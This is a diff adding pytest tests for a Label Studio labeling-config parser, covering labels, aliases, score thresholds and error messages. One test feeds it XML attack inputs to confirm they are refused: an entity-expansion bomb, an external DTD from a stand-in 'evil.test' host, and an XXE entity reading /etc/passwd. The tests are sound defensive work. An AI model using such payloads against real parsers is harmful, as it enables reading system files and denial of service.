@@ -1,0 +1,146 @@
+"""Labeling configs: what is read, and what each refusal says."""
+
+from __future__ import annotations
+
+import pytest
+
+from ppal_backend.errors import LabelConfigError
+from ppal_backend.label_studio.schema import LabelSchema, parse_label_config
+
+LABEL = '<Label value="A"/>'
+IMAGE = '<Image name="i" value="$i"/>'
+FULL = """
+<View>
+  <Header value="x"/>
+  <Image name="img" value="$picture"/>
+  <Choices name="weather" toName="img"><Choice value="sun"/></Choices>
+  <RectangleLabels name="boxes" toName="img" model_score_threshold="0.25">
+    <Label value="Car" alias="c1" predicted_values="car, truck"/>
+    <Label value="Bus"/>
+    <Label value="Bike" predicted_values="bicycle" model_score_threshold="0.6"/>
+  </RectangleLabels>
+  <RectangleLabels name="second" toName="img"><Label value="Tree"/></RectangleLabels>
+</View>
+"""
+
+
+def test_everything_of_a_full_config():
+    schema = parse_label_config(FULL)
+    assert (schema.from_name, schema.to_name, schema.data_key) == ("boxes", "img", "picture")
+    assert schema.labels == ("c1", "Bus", "Bike")
+    assert dict(schema.aliases) == {"Car": "c1"}
+    assert dict(schema.predicted_values) == {"car": "c1", "truck": "c1", "bicycle": "Bike"}
+    assert schema.score_threshold == 0.25
+    assert (schema.threshold("Bike", 0.9), schema.threshold("Bus", 0.9)) == (0.6, 0.25)
+
+
+def test_named_control_and_default_threshold():
+    schema = parse_label_config(FULL, from_name="second")
+    assert schema.labels == ("Tree",)
+    assert schema.threshold("Tree", 0.4) == 0.4
+
+
+def test_label_lookups():
+    schema = parse_label_config(FULL)
+    assert [schema.label(name) for name in ("c1", "Car", "Bus", "Plane")] == ["c1", "c1", "Bus", None]
+    classes = [schema.label_of_class(name) for name in ("truck", "Bus", "Car", "c1", "x")]
+    assert classes == ["c1", "Bus", "c1", "c1", None]
+
+
+def test_a_value_that_is_another_labels_alias_stays_that_label():
+    schema = parse_label_config(
+        '<View><Image name="i" value="$i"/><RectangleLabels name="r" toName="i">'
+        '<Label value="A" alias="B"/><Label value="B" alias="C"/></RectangleLabels></View>'
+    )
+    assert [schema.label(name) for name in ("A", "B", "C")] == ["B", "B", "C"]
+
+
+def test_control_on_text_is_passed_over_for_the_one_on_the_image():
+    schema = parse_label_config(
+        '<View><Text name="t" value="$t"/><Image name="i" value="$u"/>'
+        '<RectangleLabels name="bad" toName="t"><Label value="A"/></RectangleLabels>'
+        '<View><RectangleLabels name="good" toName="t,i"><Label value="B"/></RectangleLabels></View></View>'
+    )
+    assert (schema.from_name, schema.to_name) == ("good", "i")
+
+
+def test_tag_and_attribute_case_do_not_matter():
+    schema = parse_label_config(
+        '<view><image name="i" value="$u"/>'
+        '<rectanglelabels name="r" toname="i"><label value="A"/></rectanglelabels></view>'
+    )
+    assert schema == LabelSchema("r", "i", "u", ("A",))
+
+
+@pytest.mark.parametrize(
+    ("xml", "text"),
+    [
+        ("", "got an empty one"),
+        ("<View>", "text that is none"),
+        ('<View><Image name="i" value="$i"/></View>', "no labeling control"),
+        (
+            "<View>" + IMAGE + '<PolygonLabels name="p" toName="i"/></View>',
+            "only <PolygonLabels>",
+        ),
+        (
+            '<View><Text name="t" value="$t"/><RectangleLabels name="r" toName="t"/></View>',
+            "without an <Image>",
+        ),
+        (
+            "<View>" + IMAGE + '<RectangleLabels name="r" toName="x"/></View>',
+            "names none of",
+        ),
+        (
+            '<View><Image name="i" value="$i"/><RectangleLabels name="r" toName="i" value="$labels"/></View>',
+            "at least one <Label>",
+        ),
+        (
+            '<View><Image name="i" valueList="$is"/><RectangleLabels name="r" toName="i">'
+            + LABEL
+            + "</RectangleLabels></View>",
+            r'value="\$image"',
+        ),
+        (
+            "<View>" + IMAGE + '<RectangleLabels name="r" toName="i">' + LABEL * 2 + "</RectangleLabels></View>",
+            "'A' again",
+        ),
+        (FULL.replace('"0.25"', '"1.5"'), "between 0 and 1"),
+        (FULL.replace('"0.25"', '"high"'), "between 0 and 1"),
+    ],
+)
+def test_refusals_say_what_is_missing(xml, text):
+    with pytest.raises(LabelConfigError, match=text):
+        parse_label_config(xml)
+
+
+def test_unknown_control_lists_those_there_are():
+    with pytest.raises(LabelConfigError, match="'boxes', 'second'"):
+        parse_label_config(FULL, from_name="nope")
+
+
+@pytest.mark.parametrize(
+    "bomb",
+    [
+        '<!DOCTYPE v [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><View>&b;</View>',
+        '<!DOCTYPE v SYSTEM "http://evil.test/x.dtd"><View/>',
+        '<!DOCTYPE v [<!ENTITY x SYSTEM "file:///etc/passwd">]><View><Header value="&x;"/></View>',
+    ],
+)
+def test_document_types_and_entities_are_refused(bomb):
+    with pytest.raises(LabelConfigError, match="DOCTYPE"):
+        parse_label_config(bomb)
+
+
+def test_huge_and_deep_configs_end_in_an_error():
+    with pytest.raises(LabelConfigError, match="below"):
+        parse_label_config("<View>" + " " * 3_000_000 + "</View>")
+    with pytest.raises(LabelConfigError):
+        parse_label_config("<View>" * 100_000 + "</View>" * 100_000)
+
+
+def test_image_address_of_a_task():
+    schema = parse_label_config(FULL)
+    assert schema.image_url({"picture": "/data/x.jpg"}) == "/data/x.jpg"
+    assert schema.image_url({"picture": " "}) is None
+    assert schema.image_url({"picture": 5}) is None
+    assert schema.image_url({}) is None
